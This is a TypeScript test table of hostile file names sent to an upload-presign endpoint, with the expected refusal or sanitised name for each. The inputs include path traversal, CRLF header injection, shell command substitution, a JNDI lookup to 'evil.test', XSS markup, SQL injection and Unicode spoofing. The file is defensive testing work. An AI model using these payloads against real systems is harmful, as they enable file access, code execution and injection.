import { type Attack, good, granted, type Outcome, presign, refused } from "./attack.ts";

const noName = refused(400, "INVALID_FILE_NAME");

/** Accepted, and saved under this name. */
const saved = (name: string) => granted({ name });

/** Accepted, and saved under the name as it came. */
const asItIs = Symbol("as it is");

const TABLE: ReadonlyArray<readonly [input: string, name: string, outcome: Outcome | symbol]> = [
  ["a way out of the folder", "../../etc/passwd", saved(".._.._etc_passwd")],
  ["a way out of the folder on Windows", "..\\..\\boot.ini", saved(".._.._boot.ini")],
  ["a way out of the folder, percent-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", asItIs],
  ["a way out of the folder, percent-encoded twice", "%252e%252e%252fetc%252fpasswd", asItIs],
  ["a way out of the folder in overlong UTF-8", "%c0%ae%c0%ae%c0%afetc", asItIs],
  ["a way out of the folder in full-width letters", "\uff0e\uff0e\uff0fetc\uff0fpasswd", asItIs],
  ["a division slash for a slash", "..\u2215..\u2215a.png", asItIs],
  ["the folder itself", ".", asItIs],
  ["the folder above", "..", asItIs],
  ["an absolute path", "/etc/passwd", saved("_etc_passwd")],
  ["a drive on Windows", "C:\\windows\\a.png", saved("C:_windows_a.png")],
  ["a network share on Windows", "\\\\evil.test\\share\\a.png", saved("__evil.test_share_a.png")],
  ["slashes alone", "////", saved("____")],
  [
    "another organization's key",
    "orgs/globex/files/2026/11/a.png",
    saved("orgs_globex_files_2026_11_a.png"),
  ],
  ["NUL before a second ending", "a.php\u0000.png", noName],
  ["a header behind a line end", "a.png\r\nSet-Cookie: a=b", noName],
  ["a bare line feed", "a\n.png", noName],
  ["a tab", "a\t.png", noName],
  ["the escape character of terminals", "\u001b[2Ja.png", noName],
  ["a line end of Unicode", "a\u2028.png", noName],
  ["the next-line character", "a\u0085.png", noName],
  ["a quote that ends the name early", 'a.png"; filename="evil.exe', asItIs],
  [
    "a backslash that would escape the quote",
    "a\\\"; filename*=UTF-8''evil.exe",
    saved("a_\"; filename*=UTF-8''evil.exe"),
  ],
  ["a second parameter", "a.png; filename*=UTF-8''evil.exe", asItIs],
  ["the characters of extended values", "a'(*)%.png", asItIs],
  ["a name that turns around to look like a picture", "exe.\u202egnp", noName],
  ["a name that turns around in isolation", "a\u2067gnp.exe\u2069", noName],
  ["a right-to-left mark, which turns nothing around", "a\u200f.png", asItIs],
  ["a letter of no width in the ending", "a.p\u200bng", asItIs],
  ["the first half of a pair of surrogates", "a\ud83d.png", noName],
  ["the second half of a pair of surrogates", "a\ude00.png", noName],
  ["a pair of surrogates in the wrong order", "\ude00\ud83d.png", noName],
  ["the replacement character, which is valid", "a\ufffd.png", asItIs],
  ["10,000 characters", `${"a".repeat(10_000)}.png`, noName],
  ["255 emoji, 1,020 bytes", "\u{1f600}".repeat(255), noName],
  ["256 bytes, one too many", `${"a".repeat(252)}.png`, noName],
  ["255 bytes, as many as are allowed", `${"a".repeat(251)}.png`, asItIs],
  ["62 emoji, which fit", `${"\u{1f600}".repeat(62)}.png`, asItIs],
  ["200 marks on one letter", `a${"\u0301".repeat(100)}.png`, asItIs],
  ["nothing", "", noName],
  ["two endings, the bad one last", "a.png.exe", asItIs],
  ["two endings, the bad one first", "shell.php.png", asItIs],
  ["an ending that is not the type's", "a.html", asItIs],
  ["an ending in capitals", "a.PNG", asItIs],
  ["an ending of 200 letters", `a.${"x".repeat(200)}`, asItIs],
  ["a dot at the end, which Windows drops", "a.exe.", asItIs],
  ["a space at the end, which Windows drops", "a.exe ", asItIs],
  ["a second stream of a file on Windows", "a.png::$DATA", asItIs],
  ["the settings of a web server", ".htaccess", asItIs],
  ["a device of Windows", "CON", asItIs],
  ["a device of Windows with an ending", "NUL.png", asItIs],
  ["a home folder", "~root", asItIs],
  ["an option of a command", "-rf", asItIs],
  ["a command", "$(touch evil).png", asItIs],
  ["a command in backquotes", "`touch evil`.png", asItIs],
  [
    "a look-up of a careless log",
    "${jndi:ldap://evil.test/a}",
    saved("${jndi:ldap:__evil.test_a}"),
  ],
  ["markup", "<img src=x onerror=alert(1)>.png", asItIs],
  ["an SQL statement", "'; DROP TABLE files; --", asItIs],
  ["a formula of a spreadsheet", "=HYPERLINK(1).png", asItIs],
  ["a URL", "https://evil.test/a.png", saved("https:__evil.test_a.png")],
  ["the property __proto__ of all objects", "__proto__", asItIs],
  ["the property constructor of all objects as the ending", "a.constructor", asItIs],
];

export const fileNames: ReadonlyArray<Attack> = [
  ...TABLE.map(([input, filename, outcome]): Attack => ({
    input: `a file name (${input})`,
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename }),
    outcome: typeof outcome === "symbol" ? saved(filename) : outcome,
  })),
  {
    input: "a page (a.html) that is sent as text/plain",
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename: "a.html", content_type: "text/plain" }),
    outcome: granted({ extension: "txt", type: "text/plain", name: "a.html" }),
  },
  {
    input: "a file name (a list)",
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename: ["a.png"] }),
    outcome: noName,
  },
];
